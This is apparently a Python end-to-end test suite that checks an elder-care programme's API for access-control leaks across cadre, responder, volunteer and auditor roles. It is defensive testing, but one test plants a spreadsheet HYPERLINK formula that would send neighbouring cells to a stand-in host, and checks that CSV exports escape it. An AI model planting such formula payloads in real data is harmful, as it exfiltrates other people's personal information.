"""Ways around the access table, tried by callers holding valid tokens of low-privilege roles
(a village cadre of one village, a township responder, a volunteer), over HTTP against a real
server: each scenario is one way in, and must get exactly what the table gives that role.

The matrix (tests/e2e/test_access_matrix.py) tries every route with in-scope and out-of-scope ids in
the places the table declares; these scenarios try the places it might not: a create naming a
taken id, a list that shows names, a body field the table does not declare, what a timeline
entry says about other people, a pairing that grows beyond its unit.
"""

from __future__ import annotations

import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx

from application.care import CareApplication
from domain.base import CommandMeta
from domain.schedule import PROGRAMME_TZ
from tests.api_support import Tree, api_server, client, elder, helper, token  # noqa: F401 - fixtures


def as_role(c: httpx.Client, role: str, unit: str | None, subject: str | None = None) -> httpx.Client:
    headers = {"Authorization": f"Bearer {token(role, unit, subject)}"}
    return httpx.Client(base_url=str(c.base_url), timeout=30, headers=headers)


def position(care: CareApplication) -> int:
    return care.recorder.max_notification_id() or 0


def ok(r: httpx.Response) -> dict[str, Any]:
    assert r.status_code in (200, 201), (r.request.method, r.request.url, r.status_code, r.text[:500])
    return r.json()


def pairing(c: httpx.Client, helpers: list[str], persons: list[str], **more: Any) -> dict[str, Any]:
    shape = "many_to_one" if len(helpers) > 1 else "one_to_many" if len(persons) > 1 else "one_to_one"
    starts = (datetime.now(PROGRAMME_TZ).date() - timedelta(days=3)).isoformat()
    body = {"shape": shape, "helper_ids": helpers, "person_ids": persons, "cadence": "weekly",
            "visit_mode": "home_visit", "starts_on": starts, **more}  # fmt: skip
    return ok(c.post("/pairings", json=body))


def tasks_of(c: httpx.Client, care: CareApplication, pairing_id: str) -> list[dict[str, Any]]:
    meta = CommandMeta(
        actor_id="scheduler", actor_role="system", correlation_id=uuid.uuid4().hex, occurred_at=datetime.now(UTC)
    )
    at = care.schedule_visits(uuid.UUID(pairing_id), meta).position
    return ok(c.get("/visits", params={"pairing_id": pairing_id, "min_position": at}))["items"]


class Village:
    """A township with two villages; in village 1 an elder paired with a volunteer."""

    def __init__(self, c: httpx.Client) -> None:
        self.tree = Tree(c)
        self.v1, self.v2, self.township = self.tree.village["id"], self.tree.village2["id"], self.tree.township["id"]
        self.elder = ok(c.post("/persons", json=elder(self.v1)))["id"]
        self.volunteer = ok(c.post("/helpers", json=helper(self.v1)))["id"]
        self.pairing = pairing(c, [self.volunteer], [self.elder])


# ---- a create under a taken id ---------------------------------------------------------------


def test_filing_again_under_someone_elses_report_id_answers_as_a_different_report(client: httpx.Client) -> None:
    """A report's id and facts show on its person's timeline; the same body again under that id
    must not hand the report (responders' notes and all) to a caller who may not read it."""
    w = Village(client)
    body = {"category": "abuse_violence", "severity": "high", "person_id": w.elder}
    report = ok(client.post("/emergencies", json=body))
    ok(
        client.post(
            f"/emergencies/{report['id']}/actions", json={"action": "referred_police", "notes": "孩子说叔叔打他"}
        )
    )
    with as_role(client, "village_cadre", w.v1) as cadre:
        assert cadre.get(f"/emergencies/{report['id']}").status_code == 404  # a cadre reads only the reports they filed
        again = cadre.post("/emergencies", json={**body, "id": report["id"]})
        different = cadre.post("/emergencies", json={**body, "severity": "normal", "id": report["id"]})
        own = ok(cadre.post("/emergencies", json={**body, "id": str(uuid.uuid4())}))
        own_again = cadre.post("/emergencies", json={**body, "id": own["id"]})
    assert again.status_code == 409 and "孩子说叔叔打他" not in again.text, again.text[:300]
    assert "Location" not in again.headers and "ETag" not in again.headers
    assert {**again.json(), "instance": ""} == {**different.json(), "instance": ""}
    assert (own_again.status_code, own_again.json()["id"]) == (200, own["id"])  # the reporter's own retry


def test_a_visit_log_sent_again_by_a_helper_outside_its_pairing_is_refused_as_a_different_one(
    client: httpx.Client,
) -> None:
    """An unplanned visit's log sent again without its pairing and person names nothing for the
    table to check but its id: the answer must not say whom it was about."""
    w = Village(client)
    visited = (datetime.now(UTC) - timedelta(hours=2)).isoformat()
    body = {"id": str(uuid.uuid4()), "occurred_at": visited, "mode": "phone_video", "helper_ids": [w.volunteer]}
    link = {"pairing_id": w.pairing["id"], "person_id": w.elder}
    with as_role(client, "volunteer", w.v1, w.volunteer) as volunteer:
        first = ok(volunteer.post("/visit-logs", json={**body, **link}))
        assert ok(volunteer.post("/visit-logs", json=body))["id"] == first["id"]  # an offline retry
    stranger = ok(client.post("/helpers", json=helper(w.v2)))["id"]
    with as_role(client, "volunteer", w.v2, stranger) as other:
        again = other.post("/visit-logs", json=body)
    assert again.status_code == 409 and again.json()["type"] == "/problems/already-exists", again.text[:300]
    assert w.elder not in again.text and w.pairing["id"] not in again.text


# ---- names in lists ---------------------------------------------------------------------------


def test_responders_read_the_supervision_figures_but_no_list_of_people_outside_their_reports(
    client: httpx.Client,
) -> None:
    """A responder's people are the subjects of the reports of their area; the uncovered and
    overdue lists name everyone beneath a unit, so they are for supervisors, cadres and auditors."""
    w = Village(client)
    nobody_pairs = ok(client.post("/persons", json=elder(w.v2, name="钱奶奶")))["id"]
    with as_role(client, "township_responder", w.township) as responder:
        assert responder.get(f"/persons/{nobody_pairs}").status_code == 404
        assert responder.get(f"/supervision/{w.township}").status_code == 200
        assert responder.get(f"/supervision/{w.township}/emergencies-past-deadline").status_code == 200
        for tail in ("uncovered", "overdue", "uncovered.csv", "overdue.csv"):
            r = responder.get(f"/supervision/{w.township}/{tail}")
            assert (r.status_code, r.json()["type"]) == (403, "/problems/forbidden"), (tail, r.text[:300])
    with as_role(client, "county_responder", w.tree.county["id"]) as desk:
        assert desk.get(f"/supervision/{w.tree.county['id']}/uncovered.csv").status_code == 403
    with as_role(client, "township_supervisor", w.township) as supervisor:
        assert ok(supervisor.get(f"/supervision/{w.township}/uncovered", params={"limit": 500}))["total"] >= 1


# ---- ids in the body the table must know about ----------------------------------------------------


def test_claiming_for_a_group_outside_scope_answers_as_for_a_group_that_does_not_exist(
    client: httpx.Client, care_app: CareApplication
) -> None:
    w = Village(client)
    task = tasks_of(client, care_app, w.pairing["id"])[0]
    team = ok(client.post("/helpers", json=helper(w.v2)))["id"]
    theirs = ok(client.post("/groups", json={"name": "二村志愿服务队", "org_unit_id": w.v2, "member_ids": [team]}))[
        "id"
    ]
    unknown = str(uuid.uuid4())
    with as_role(client, "village_cadre", w.v1) as cadre:
        before = position(care_app)
        a, b = (cadre.post(f"/visits/{task['id']}/claim", json={"group_id": g}) for g in (theirs, unknown))
        assert position(care_app) == before
    assert (a.status_code, b.status_code) == (422, 422), (a.text[:300], b.text[:300])
    assert a.json()["type"] == "/problems/unknown-reference" and a.json()["errors"][0]["field"] == "group_id"
    assert {**a.json(), "detail": "", "errors": []} == {**b.json(), "detail": "", "errors": []}
    assert a.json()["detail"] == b.json()["detail"].replace(unknown, theirs)


# ---- a pairing stays within the unit that keeps it -----------------------------------------------


def test_a_person_of_another_village_does_not_join_a_villages_pairing(
    client: httpx.Client, care_app: CareApplication
) -> None:
    """A pairing belongs to the common part of its people's paths, fixed when it is formed: a
    person from elsewhere added later would be managed by the other village's cadre and hidden
    from their own. The township forms a pairing of both villages instead."""
    w = Village(client)
    other = ok(client.post("/persons", json=elder(w.v2, name="赵大爷")))["id"]
    one_to_many = pairing(client, [ok(client.post("/helpers", json=helper(w.v1)))["id"]],
                          [w.elder, ok(client.post("/persons", json=elder(w.v1)))["id"]])  # fmt: skip
    with as_role(client, "township_supervisor", w.township) as supervisor:
        before = position(care_app)
        r = supervisor.post(f"/pairings/{one_to_many['id']}/add-person", json={"person_id": other})
        assert position(care_app) == before
        refused = (r.status_code, r.json()["type"], r.json()["errors"][0]["field"])
        assert refused == (422, "/problems/rule-violated", "person_id")
        both = pairing(supervisor, [ok(client.post("/helpers", json=helper(w.township)))["id"]], [w.elder, other])
    assert both["org_path"] == [w.tree.county["id"], w.township]
    with as_role(client, "village_cadre", w.v1) as cadre:
        assert cadre.get(f"/pairings/{both['id']}").status_code == 404  # the township's, not the village's


# ---- what one person's timeline says about others --------------------------------------------------


def test_a_persons_timeline_names_no_other_cared_for_person(client: httpx.Client, care_app: CareApplication) -> None:
    """The timeline of an elder of village 1 is readable by its cadre; a township pairing they
    share with an elder of village 2 shows on it, but that elder is none of the cadre's business."""
    w = Village(client)
    other, third = (ok(client.post("/persons", json=elder(w.v2, name=n)))["id"] for n in ("赵大爷", "钱奶奶"))
    township_helper = ok(client.post("/helpers", json=helper(w.township)))["id"]
    shared = pairing(client, [township_helper], [w.elder, other])
    ok(client.post(f"/pairings/{shared['id']}/add-person", json={"person_id": third}))
    ok(client.post(f"/pairings/{shared['id']}/remove-person", json={"person_id": other, "reason": "随女儿去昆明"}))
    with as_role(client, "village_cadre", w.v1) as cadre:
        r = cadre.get(f"/persons/{w.elder}/timeline", params={"kind": "pairing", "min_position": position(care_app)})
    entries = {e["kind"]: e["summary"] for e in ok(r)["items"] if e["aggregate_id"] == shared["id"]}
    assert set(entries) == {"pairing.formed", "pairing.person_added", "pairing.person_removed"}
    assert other not in r.text and third not in r.text, r.text[:500]
    assert entries["pairing.formed"]["person_ids"] == [w.elder] and entries["pairing.formed"]["other_persons"] == 1
    assert entries["pairing.formed"]["helper_ids"] == [township_helper]  # who looks after this elder stays
    assert entries["pairing.person_added"]["person_id"] is None


def test_a_timeline_shows_emergency_reports_only_to_those_who_handle_them(
    client: httpx.Client, care_app: CareApplication
) -> None:
    """A report about an elder of village 1 is on their timeline for the township supervisor,
    not for the village cadre or the paired volunteer, who read the elder's record all the same."""
    w = Village(client)
    report = ok(client.post("/emergencies", json={
        "category": "abuse_violence", "severity": "high", "person_id": w.elder, "description": "邻居听到打骂声",
    }))  # fmt: skip
    at = position(care_app)

    def report_entries(role: str, unit: str, subject: str | None = None) -> tuple[list[str], int]:
        with as_role(client, role, unit, subject) as c:
            page = ok(c.get(f"/persons/{w.elder}/timeline", params={"min_position": at}))
        kinds = [e["kind"] for e in page["items"] if e["aggregate_id"] == report["id"]]
        return kinds, page["total"]

    handled, total = report_entries("township_supervisor", w.township)
    assert "emergency_report.reported" in handled
    for role, unit, subject in (("village_cadre", w.v1, None), ("volunteer", w.v1, w.volunteer)):
        kinds, seen = report_entries(role, unit, subject)
        assert kinds == [], role
        assert seen == total - len(handled), role  # the total leaves them out too


# ---- what a refusal says --------------------------------------------------------------------------


def test_a_refusal_never_repeats_a_sealed_reason(client: httpx.Client) -> None:
    """Why a person left and why a helper stopped are personal data, sealed at rest and read only
    through their records (and the access log); a refused change must not echo them."""
    w = Village(client)
    left = ok(client.post("/persons", json=elder(w.v1, name="孙大爷")))["id"]
    ok(client.post(f"/persons/{left}/leave", json={"reason": "确诊肺癌晚期住院"}))
    retired = ok(client.post("/helpers", json=helper(w.v1)))["id"]
    ok(client.post(f"/helpers/{retired}/deactivate", json={"reason": "抑郁症复发休养"}))
    team = ok(client.post("/groups", json={"name": "一村志愿服务队", "org_unit_id": w.v1}))["id"]
    with as_role(client, "township_supervisor", w.township) as supervisor:
        refusals = [
            supervisor.post(f"/persons/{left}/risk-tags", json={"tag": "advanced_age"}),
            supervisor.post(f"/helpers/{retired}/capacity", json={"capacity": 3}),
            supervisor.post(f"/groups/{team}/members", json={"helper_id": retired}),
        ]
    for r in refusals:
        assert r.status_code == 409 and r.json()["type"] in ("/problems/not-active", "/problems/closed"), r.text[:300]
        assert "确诊肺癌晚期住院" not in r.text and "抑郁症复发休养" not in r.text and "reason" not in r.json(), r.text[
            :300
        ]


# ---- every answer with a person's data leaves a row in their access log -----------------------------


def readers(c: httpx.Client, person_id: str) -> list[tuple[str, str]]:
    """(role, endpoint) of each read in the person's access log, oldest first."""
    page = ok(c.get(f"/audit/persons/{person_id}/access-log", params={"limit": 500}))
    return [(e["actor_role"], e["endpoint"]) for e in reversed(page["items"])]


def test_every_answer_carrying_a_persons_data_is_in_their_access_log(
    client: httpx.Client, care_app: CareApplication
) -> None:
    """The access log is how a person (or an inspector) learns who saw their data: a visit log's
    findings, a record sent back after a change (even one that changed nothing), a supervision
    list with their name, a report answered after a responder's step, or a case history that
    still tells why they left a pairing. None of these may leave without a row."""
    w = Village(client)
    uncovered = ok(client.post("/persons", json=elder(w.v1, name="钱奶奶")))["id"]
    log = {"id": str(uuid.uuid4()), "occurred_at": (datetime.now(UTC) - timedelta(hours=1)).isoformat(),
           "mode": "home_visit", "pairing_id": w.pairing["id"], "person_id": w.elder, "helper_ids": [w.volunteer],
           "findings": {"health": "ill", "notes": "血压很高, 头晕"}}  # fmt: skip
    ok(client.post("/visit-logs", json=log))
    report = ok(client.post("/emergencies", json={"category": "neglect", "severity": "normal", "person_id": w.elder,
                                                  "description": "老人三天没吃饭"}))  # fmt: skip
    moved = ok(client.post("/persons", json=elder(w.v1, name="孙大爷")))["id"]
    stays = ok(client.post("/persons", json=elder(w.v1, name="周大爷")))["id"]
    team = pairing(client, [ok(client.post("/helpers", json=helper(w.v1)))["id"]], [w.elder, stays, moved, uncovered])
    ok(client.post(f"/pairings/{team['id']}/remove-person", json={"person_id": moved, "reason": "搬去女儿家住"}))
    ok(client.post(f"/pairings/{team['id']}/remove-person", json={"person_id": uncovered, "reason": "不愿意被探访"}))
    at = position(care_app)
    with as_role(client, "village_cadre", w.v1) as cadre:
        assert "血压很高" in ok(cadre.get(f"/visit-logs/{log['id']}"))["findings"]["notes"]
        assert ok(cadre.post(f"/persons/{w.elder}/risk-tags", json={"tag": "living_alone"}))["name"]  # already tagged
        assert "钱奶奶" in cadre.get(f"/supervision/{w.v1}/uncovered.csv", params={"min_position": at}).text
        assert ok(cadre.get(f"/supervision/{w.v1}/uncovered", params={"min_position": at}))["total"] >= 1
    with as_role(client, "township_responder", w.township) as responder:
        assert (
            ok(responder.post(f"/emergencies/{report['id']}/acknowledge", json={}))["description"] == "老人三天没吃饭"
        )
    with as_role(client, "auditor", w.township) as auditor:
        assert "搬去女儿家住" in ok(auditor.get(f"/audit/streams/{team['id']}")).__repr__()
    assert readers(client, w.elder) == [
        ("village_cadre", "GET /visit-logs/{log_id}"),
        ("village_cadre", "POST /persons/{person_id}/risk-tags"),
        ("township_responder", "POST /emergencies/{report_id}/acknowledge"),
        ("auditor", "GET /audit/streams/{stream_id}"),
    ]
    for gone in (uncovered, moved):  # no pairing covers them since: both are on the uncovered list
        assert readers(client, gone) == [
            ("village_cadre", "GET /supervision/{org_unit}/uncovered.csv"),
            ("village_cadre", "GET /supervision/{org_unit}/uncovered"),
            ("auditor", "GET /audit/streams/{stream_id}"),  # the pairing's history tells why they left it
        ]


# ---- a stream outlives nothing -----------------------------------------------------------------------


def test_a_revoked_tokens_alert_stream_ends_before_the_next_alert(client: httpx.Client, nats_url: str) -> None:
    """A console's stream was opened with a token that was good then; once the token is revoked
    (a phone lost), the stream must not keep delivering what the token may no longer see."""
    import asyncio
    import json

    import nats

    from api.auth import verify_token
    from tests.api_support import SECRET
    from tests.emergency_support import wait_until

    w = Village(client)
    wait_until(lambda: client.get("/health").json()["nats"]["ok"], what="the API's NATS connection")
    county, township = w.tree.county["code"], w.tree.township["code"]
    lost = token("township_supervisor", w.township, "ts-lost-phone")

    async def publish() -> None:
        nc = await nats.connect(nats_url)
        alert = {"alert_id": f"{uuid.uuid4()}:0", "report_id": str(uuid.uuid4()), "township_code": township, "level": 0}
        await nc.publish(f"alerts.{county}.{township}", json.dumps(alert).encode())
        await nc.flush()
        await nc.close()

    with (
        httpx.Client(base_url=str(client.base_url), timeout=30) as c,
        c.stream("GET", "/emergencies/stream", headers={"Authorization": f"Bearer {lost}"}) as s,
    ):
        lines = s.iter_lines()
        assert next(lines) == f": following alerts.{county}.>"
        ok(client.post("/auth/revoke", json={"jti": verify_token(SECRET, lost).token_id, "reason": "手机丢失"}))
        asyncio.run(publish())
        delivered = next((line for line in lines if line.startswith(("event:", "data:"))), None)
    assert delivered is None, delivered  # the stream ended instead (a console reconnects, and is refused)


# ---- what an export carries to an inspector's spreadsheet -------------------------------------------


def test_a_name_cannot_plant_a_formula_in_an_inspectors_spreadsheet(
    client: httpx.Client, care_app: CareApplication
) -> None:
    """A village cadre registers whatever name they type; the county's inspector opens the
    county's uncovered list in a spreadsheet. A cell starting with = (or + - @) is a formula there,
    and one can send the neighbouring cells (everyone else's names) to any address."""
    w = Village(client)
    formula = '=HYPERLINK("http://x.example/?"&B3,"查看")'
    with as_role(client, "village_cadre", w.v1) as cadre:
        planted = ok(cadre.post("/persons", json=elder(w.v1, name=formula)))["id"]
    with as_role(client, "county_supervisor", w.tree.county["id"]) as inspector:
        for lang in ("zh", "en"):
            csv = inspector.get(f"/supervision/{w.tree.county['id']}/uncovered.csv",
                                params={"lang": lang, "limit": 500, "min_position": position(care_app)})  # fmt: skip
            row = next(line for line in csv.text.splitlines() if line.startswith(planted))
            cell = row.split(",", 1)[1]
            assert cell.startswith(("'=", "\"'=")) and "HYPERLINK" in cell, row  # shown as text, not run


def test_a_county_responder_sees_no_township_report_past_deadline_before_it_reaches_the_county(
    client: httpx.Client, care_app: CareApplication
) -> None:
    """A county responder's reports are those handed up to the county; one still waiting at its
    township past the deadline (the escalator has not moved it yet) names a person they may not read."""
    w = Village(client)
    report = ok(client.post("/emergencies", json={"category": "neglect", "severity": "high", "person_id": w.elder}))
    meta = CommandMeta(
        actor_id="router", actor_role="system", correlation_id=uuid.uuid4().hex, occurred_at=datetime.now(UTC)
    )
    routed, _ = care_app.route_emergency(uuid.UUID(report["id"]), 0, meta)  # nobody on duty: due at once
    settled = {"min_position": routed.position}
    county = w.tree.county["id"]
    with as_role(client, "county_responder", county) as desk:
        assert desk.get(f"/persons/{w.elder}").status_code == 404
        listed = ok(desk.get(f"/supervision/{county}/emergencies-past-deadline", params=settled))
        csv = desk.get(f"/supervision/{county}/emergencies-past-deadline.csv", params=settled)
    assert report["id"] not in {row["id"] for row in listed["items"]} and report["id"] not in csv.text
    with as_role(client, "township_responder", w.township) as township_desk:
        theirs = ok(township_desk.get(f"/supervision/{w.township}/emergencies-past-deadline", params=settled))
    assert report["id"] in {row["id"] for row in theirs["items"]}  # the township's, still waiting there
